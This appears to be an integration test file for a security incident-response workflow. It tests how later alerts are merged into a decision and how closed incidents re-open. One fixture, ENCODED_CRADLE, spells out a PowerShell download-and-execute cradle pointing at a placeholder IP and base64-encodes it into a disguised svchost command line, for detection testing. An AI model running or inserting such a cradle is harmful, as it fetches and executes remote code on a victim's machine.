/**
 * New evidence (issue 15 item 4) on the real dev server, with the real playbook: a later alert's
 * facts about the pair are merged before the decision; a new alert for an incident closed as
 * benign re-opens it as a new incident linked to the closed one; a re-send of a closed incident's
 * own alert is acknowledged and re-runs nothing.
 */
import type { Client } from '@temporalio/client';
import type { CanonicalAlert } from '../../common/alert';
import { incidentWorkflowId } from '../../common/incident';
import type { IncidentStatus } from '../../common/incident-status';
import { reopenedWorkflowId, submitAlert } from '../../client/ingest/submit';
import { createHarness, statusOf, waitFor } from '../support/playbook-harness';
import { benignScenario } from '../support/scenarios';
import { testClient } from '../support/temporal';

let client: Client;
beforeAll(async () => {
  client = await testClient();
});

const ENCODED_CRADLE = Buffer.from(
  "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')",
  'utf16le',
).toString('base64');

it('a later alert’s facts, arriving while the incident investigates, are merged into the decision', async () => {
  const h = await createHarness(client);
  const benign = benignScenario(h);
  // The first sensor saw svchost.exe start with no command line; the second saw the whole of it.
  const first: CanonicalAlert = { ...benign, child: { ...benign.child, commandLine: undefined } };
  delete (first.child as { commandLine?: string }).commandLine;
  const later: CanonicalAlert = {
    ...benign,
    alertId: `${benign.alertId}-sysmon`,
    source: 'sysmon',
    child: { ...benign.child, commandLine: `svchost.exe -k netsvcs -enc ${ENCODED_CRADLE}` },
  };
  const policy = h.policy({ hostLivenessTimeout: '2s' });
  const workflowId = incidentWorkflowId(first);
  const result: IncidentStatus = await h.run(
    async () => {
      await submitAlert(client, first, { policy, taskQueue: h.taskQueue, workflowId });
      const handle = client.workflow.getHandle(workflowId);
      // No host worker yet: the incident investigates (waiting for one) when the second alert comes.
      await waitFor(
        () => statusOf(handle),
        (s) => s.hostWorker?.answered === false,
      );
      expect((await submitAlert(client, later, { policy, taskQueue: h.taskQueue, workflowId })).deduplicated).toBe(
        true,
      );
      await waitFor(
        () => statusOf(handle),
        (s) => (s.mergedFacts ?? []).length === 1,
      );
      const host = await h.startHostWorker();
      try {
        const waiting = await waitFor(
          () => statusOf(handle),
          (s) => s.decision !== null,
        );
        await handle.signal('reject', { analyst: 'alice' }).catch(() => undefined);
        return waiting;
      } finally {
        host.worker.shutdown();
        await host.running;
      }
    },
    { hostWorker: false },
  );
  expect(result.mergedFacts).toEqual([{ alertId: later.alertId, added: ['child.commandLine'] }]);
  // Benign on the first alert alone; the merged command line downloads and runs code.
  expect(result.decision?.verdict).not.toBe('benign');
  expect(result.decision?.reasons.map((r) => r.code)).toContain('download-and-execute');
  expect(result.duplicates.map((d) => d.alertId)).toEqual([later.alertId]);
}, 120_000);

it('a new alert for an incident closed as benign re-opens it, linked; a re-send of its own alert does not', async () => {
  const h = await createHarness(client);
  const alert = benignScenario(h);
  const policy = h.policy();
  const workflowId = incidentWorkflowId(alert);
  const { closed, reopened, resent } = await h.run(async () => {
    await submitAlert(client, alert, { policy, taskQueue: h.taskQueue, workflowId });
    const closedStatus = (await client.workflow.getHandle(workflowId).result()) as IncidentStatus;
    const resentSubmission = await submitAlert(client, alert, { policy, taskQueue: h.taskQueue, workflowId });
    const fresh = { ...alert, alertId: `${alert.alertId}-second-rule`, ruleName: 'Unusual svchost child' };
    const reopenedSubmission = await submitAlert(client, fresh, { policy, taskQueue: h.taskQueue, workflowId });
    const reopenedStatus = (await client.workflow.getHandle(reopenedSubmission.workflowId).result()) as IncidentStatus;
    return {
      closed: closedStatus,
      reopened: { submission: reopenedSubmission, status: reopenedStatus },
      resent: resentSubmission,
    };
  });
  expect(closed.outcome).toBe('closed-benign');
  expect(closed.alertIds).toEqual([alert.alertId]);
  expect(resent).toMatchObject({ workflowId, deduplicated: true, closed: true });
  expect(reopened.submission).toMatchObject({
    workflowId: reopenedWorkflowId(workflowId, 2),
    deduplicated: false,
    reopened: workflowId,
  });
  expect(reopened.status.reopenedFrom).toMatchObject({ workflowId, outcome: 'closed-benign' });
  const described = await client.workflow.getHandle(reopened.submission.workflowId).describe();
  expect(described.memo?.reopenedFrom).toMatchObject({ workflowId, outcome: 'closed-benign' });
}, 120_000);
